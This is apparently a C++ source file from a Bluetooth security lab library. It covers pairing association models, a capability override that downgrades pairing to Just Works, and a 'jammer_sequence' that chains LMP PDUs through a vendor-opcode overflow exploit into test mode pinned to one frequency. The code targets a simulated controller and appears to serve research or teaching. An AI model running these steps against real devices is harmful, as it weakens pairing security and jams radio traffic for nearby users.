#include "btlab/security.hpp"

#include "btlab/errors.hpp"

namespace btlab::security {

const char* io_capability_name(IoCapability capability) {
  switch (capability) {
    case IoCapability::DisplayOnly: return "DisplayOnly";
    case IoCapability::DisplayYesNo: return "DisplayYesNo";
    case IoCapability::KeyboardOnly: return "KeyboardOnly";
    case IoCapability::NoInputNoOutput: return "NoInputNoOutput";
  }
  return "?";
}

const char* association_model_name(AssociationModel model) {
  switch (model) {
    case AssociationModel::NumericComparison: return "numeric comparison";
    case AssociationModel::JustWorks: return "just works";
    case AssociationModel::Passkey: return "passkey entry";
  }
  return "?";
}

AssociationModel association_model(IoCapability initiator,
                                   IoCapability responder) {
  using M = AssociationModel;
  // Rows: initiator, columns: responder, in enum order
  // DisplayOnly, DisplayYesNo, KeyboardOnly, NoInputNoOutput.
  static constexpr M kTable[4][4] = {
      {M::JustWorks, M::JustWorks, M::Passkey, M::JustWorks},
      {M::JustWorks, M::NumericComparison, M::Passkey, M::JustWorks},
      {M::Passkey, M::Passkey, M::Passkey, M::JustWorks},
      {M::JustWorks, M::JustWorks, M::JustWorks, M::JustWorks},
  };
  return kTable[static_cast<int>(initiator)][static_cast<int>(responder)];
}

void nino_override(core::Session& session) {
  uint8_t nino = static_cast<uint8_t>(IoCapability::NoInputNoOutput);
  session.write_memory(session.profile().io_capability_address, {&nino, 1},
                       true);
}

IoCapability advertised_io_capability(core::Session& session) {
  Bytes value =
      session.read_memory(session.profile().io_capability_address, 1);
  return static_cast<IoCapability>(value[0] & 0x03);
}

PairingOutcome simulate_pairing(
    core::Session& session, IoCapability peer_capability,
    std::optional<IoCapability> peer_cached_expectation) {
  PairingOutcome outcome;
  IoCapability advertised = advertised_io_capability(session);
  outcome.model = association_model(advertised, peer_capability);
  if (peer_cached_expectation && *peer_cached_expectation != advertised) {
    // The peer's stack cached different capabilities from an earlier
    // pairing and bails out; no warning reaches the user.
    outcome.aborted = true;
    return outcome;
  }
  outcome.completed = true;
  return outcome;
}

namespace {

uint32_t rejections_on(core::Session& session, uint16_t conn_handle) {
  for (const auto& conn : session.connections()) {
    if (conn.handle == conn_handle) return conn.rejection_count;
  }
  throw Error(Errc::NoSuchConnection, "connection vanished mid-sequence");
}

void run_step(core::Session& session, uint16_t conn_handle,
              const lmp::LmpPdu& pdu, int step_index) {
  uint32_t before = rejections_on(session, conn_handle);
  session.send_lmp(conn_handle, pdu, true);
  uint32_t after = rejections_on(session, conn_handle);
  if (after != before) {
    char msg[64];
    snprintf(msg, sizeof(msg), "step %d drew LMP_not_accepted", step_index);
    throw Error(Errc::StepFailed, msg, static_cast<size_t>(step_index));
  }
}

}  // namespace

JammerOutcome jammer_sequence(core::Session& session, uint16_t conn_handle,
                              const sim::Controller& victim) {
  // 1: LMP_set_AFH with hopping disabled on channels 0-63.
  lmp::AfhConfig afh;
  afh.instant = 0;
  afh.mode = 0;
  for (int i = 0; i < 8; i++) afh.channel_map[i] = 0xff;
  lmp::LmpPdu set_afh{0, lmp::kOpcodeSetAfh, std::nullopt,
                      lmp::encode_set_afh(afh)};
  run_step(session, conn_handle, set_afh, 1);

  // 2: arm device-under-test mode through the BPCS overflow.
  lmp::LmpPdu exploit{0, lmp::kOpcodeVendorBpcs, std::nullopt, {0x95}};
  run_step(session, conn_handle, exploit, 2);

  // 3: LMP_test_activate.
  lmp::LmpPdu activate{0, lmp::kOpcodeTestActivate, std::nullopt, {0x00}};
  run_step(session, conn_handle, activate, 3);

  // 4: LMP_test_control pinning a single transmit frequency.
  lmp::TestControlParams params;
  params.scenario = 0x01;
  params.hopping_mode = 0x00;
  params.tx_freq_index = 0x20;
  params.rx_freq_index = 0x20;
  params.power_mode = 0x00;
  params.poll_period = 0x00;
  params.packet_type = 0x00;
  params.payload_length = 0x0007;
  lmp::LmpPdu control{0, lmp::kOpcodeTestControl, std::nullopt,
                      lmp::encode_test_control(params)};
  run_step(session, conn_handle, control, 4);

  JammerOutcome outcome;
  outcome.victim_mode = victim.mode();
  outcome.victim_afh_mode = victim.afh().mode;
  outcome.hopping_mode = victim.test_params().hopping_mode;
  outcome.tx_frequency_mhz = victim.active_tx_frequency_mhz();
  return outcome;
}

}  // namespace btlab::security
